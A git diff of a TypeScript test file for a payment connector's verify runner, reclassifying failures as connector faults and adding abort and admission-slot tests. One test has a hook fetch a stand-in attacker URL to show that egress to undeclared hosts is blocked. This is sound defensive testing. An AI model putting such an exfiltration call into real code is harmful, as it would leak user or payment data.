@@ -1,5 +1,5 @@
 import { afterEach, describe, expect, it } from 'vitest';
-import { isPaycoreError } from './errors.js';
+import { isPaycoreError, PaycoreError } from './errors.js';
 import { runVerify } from './run-verify.js';
 import { exampleManifest, startServer } from './test-support/fixtures.js';
 import type { Connector, Logger, VerifyHook } from './types.js';
@@ -61,7 +61,7 @@ describe('runVerify', () => {
     expect(called).toBe(false);
   });
 
-  it('turns a call to an undeclared host into a misconfigured result', async () => {
+  it('turns a call to an undeclared host into the connector\u2019s fault', async () => {
     const result = await runVerify(
       connector(async (_input, ctx) => {
         await ctx.fetch('https://collector.evil.test/steal');
@@ -69,11 +69,16 @@ describe('runVerify', () => {
       }),
       input,
     );
-    expect(result).toMatchObject({ ok: false, reason: 'misconfigured', retryable: false });
+    expect(result).toMatchObject({
+      ok: false,
+      reason: 'connector_failed',
+      fault: 'undeclared_host',
+      retryable: false,
+    });
     expect(JSON.stringify(result)).toContain('collector.evil.test');
   });
 
-  it('answers timeout within the limit plus 100 ms when the hook hangs and ignores its signal', async () => {
+  it('ends at the limit a hook that waits on nothing, as the connector\u2019s fault, not a provider timeout', async () => {
     const started = performance.now();
     const result = await runVerify(
       connector(() => new Promise(() => {})),
@@ -81,13 +86,23 @@ describe('runVerify', () => {
       { timeoutMs: 300 },
     );
     const elapsed = performance.now() - started;
-    expect(result).toMatchObject({ ok: false, reason: 'timeout', retryable: true });
+    expect(result).toMatchObject({
+      ok: false,
+      reason: 'connector_failed',
+      fault: 'time_limit',
+      retryable: false,
+    });
     expect(elapsed).toBeLessThan(400);
   });
 
-  it('answers timeout when the provider never responds', async () => {
+  const hangingServer = async () => {
     const server = await startServer(() => {});
     closers.push(server.close);
+    return server;
+  };
+
+  it('answers timeout when the provider never responds', async () => {
+    const server = await hangingServer();
     const result = await runVerify(
       connector(async (_i, ctx) => {
         await ctx.fetch(`${ctx.baseUrl}/slow`);
@@ -108,11 +123,11 @@ describe('runVerify', () => {
       input,
       { logger: recordingLogger(lines) },
     );
-    expect(result).toMatchObject({ ok: false, reason: 'misconfigured', retryable: false });
+    expect(result).toMatchObject({ ok: false, reason: 'connector_failed', fault: 'crash', retryable: false });
     const everything = JSON.stringify(result) + lines.join('\n');
     expect(everything).not.toContain(SECRET);
     expect(everything).not.toMatch(/at .*\.ts:\d+/);
-    expect(lines.join('\n')).toContain('[redacted]');
+    expect(JSON.stringify(result)).toContain('exploded with [redacted]');
   });
 
   it('scrubs secrets a hook puts in its message or account', async () => {
@@ -136,8 +151,51 @@ describe('runVerify', () => {
       connector((async () => ({ ok: 'yes', secret: SECRET })) as unknown as VerifyHook),
       input,
     );
-    expect(result).toMatchObject({ ok: false, reason: 'misconfigured', retryable: false });
+    expect(result).toMatchObject({ ok: false, reason: 'connector_failed', fault: 'malformed_result' });
     expect(JSON.stringify(result)).not.toContain(SECRET);
+  });
+
+  it('ends with verify_aborted, not a provider timeout, when the caller gives up', async () => {
+    const caller = new AbortController();
+    const running = runVerify(
+      connector(async (_i, ctx) => {
+        await ctx.fetch(`${ctx.baseUrl}/slow`);
+        return success();
+      }),
+      input,
+      {
+        signal: caller.signal,
+        egressOverrides: { 'https://api.example.com': (await hangingServer()).origin },
+      },
+    );
+    setTimeout(() => caller.abort(new Error('client went away')), 50);
+    await expect(running).rejects.toMatchObject({ code: 'verify_aborted' });
+  });
+
+  it('starts the clock only once admitted, and releases the slot however the verify ends', async () => {
+    const events: string[] = [];
+    const admit = async () => {
+      events.push('admitted');
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return () => events.push('released');
+    };
+    const result = await runVerify(
+      connector(async () => success()),
+      input,
+      { timeoutMs: 200, admit },
+    );
+    expect(result).toEqual({ ok: true });
+    expect(events).toEqual(['admitted', 'released']);
+    const shed = () => Promise.reject(new PaycoreError('overloaded', 'full'));
+    await expect(
+      runVerify(
+        connector(async () => success()),
+        input,
+        { admit: shed },
+      ),
+    ).rejects.toMatchObject({
+      code: 'overloaded',
+    });
   });
 
   it('refuses a connector that is not ready', async () => {
